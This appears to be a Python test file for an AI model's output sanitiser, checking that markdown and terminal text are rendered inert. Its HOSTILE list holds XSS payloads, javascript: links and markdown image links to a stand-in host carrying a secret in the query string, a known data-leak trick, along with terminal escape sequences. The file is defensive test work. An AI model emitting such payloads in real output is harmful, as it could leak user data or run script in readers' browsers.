"""Hostile text shown on the page or in the terminal stays text."""

import pytest
from hypothesis import given
from hypothesis import strategies as some
from markdown_it import MarkdownIt

from assistant.plain import as_markdown, as_text

HOSTILE = [
    "![](http://evil.example/?q=secret)",
    "![alt](//evil.example/x.png 'title')",
    "![alt][evil]\n\n[evil]: http://evil.example/x.png",
    "![a\nb](http://evil.example/x.png)",
    "[![](http://evil.example/x.png)](http://evil.example)",
    "[点这里](javascript:alert(1))",
    "[点这里](data:text/html;base64,PHNjcmlwdD4=)",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<http://evil.example>",
    "http://evil.example/a?b=c www.evil.example me@evil.example",
    "&lt;img src=x&gt; &#60;script&#62;",
    "```\n![](http://evil.example)\n```",
    "`code` *em* **strong** ~~struck~~ $x^2$ $$y$$",
    "# heading\n> quote\n- item\n+ item\n1. item\n2) item\n---\n===",
    "    code by indent\n\tcode by tab",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    ":red[x] :material/delete: :smile: :streamlit:",
    "\\![](http://evil.example)",
    "!\u200b[](http://evil.example)",
]


def parsed(markdown: str) -> list[str]:
    """The kinds of all tokens; GFM's own, HTML and bare addresses included."""
    parser = MarkdownIt("gfm-like", {"linkify": False, "html": True})
    blocks = parser.parse(markdown)
    return [token.type for block in blocks for token in (block, *(block.children or []))]


PLAIN = {"paragraph_open", "paragraph_close", "inline", "text", "text_special", "softbreak", "hardbreak"}


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_is_more_than_text(text: str) -> None:
    assert set(parsed(as_markdown(text))) <= PLAIN


@given(some.text(alphabet=some.sampled_from("!$()*+-.:<>@[\\]^_`|~=#&;/ \n\t0123abhtpw图。\u2028\r"), max_size=60))
def test_no_text_is_more_than_text(text: str) -> None:
    assert set(parsed(as_markdown(text))) <= PLAIN


@pytest.mark.parametrize(
    "text", ["http://evil.example", "www.evil.example", "a@evil.example", ":smile:", ":material/x:"]
)
def test_names_that_the_page_looks_for_are_broken_up(text: str) -> None:
    assert text not in as_markdown(text)
    assert as_markdown(text).replace("\u2060", "").replace("\\", "") == text


def test_images_go_and_links_become_their_text() -> None:
    assert as_markdown("甲![图](http://x.example/a.png)乙[丙](http://x.example)丁") == "甲乙丙丁"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("全年完成120亿元,增长8.5%。", "全年完成120亿元,增长8.5%。"),
        ("增长8.5%[1](预计)", r"增长8.5%\[1\](预计)"),
        ("一行\n二行", "一行  \n二行"),
        ("一段\n\n二段", "一段\n\n二段"),
        ("时间9:30", "时间9:\u206030"),
        ("", ""),
    ],
)
def test_ordinary_text_stays_as_it_is(text: str, shown: str) -> None:
    assert as_markdown(text) == shown


@pytest.mark.parametrize(
    "text", ["\x1b[31m红\x1b[0m", "\x1b]0;title\x07", "a\x00b\x08c\x9b31m", "a\u202eb\u2066c", "a\ud800b"]
)
def test_nothing_moves_the_terminal(text: str) -> None:
    assert not set(as_text(text)) & set("\x1b\x07\x00\x08\x9b\u202e\u2066\ud800")


def test_line_ends_are_kept_as_one_kind() -> None:
    assert as_text("a\r\nb\rc\u2028d\te") == "a\nb\nc\nd e"
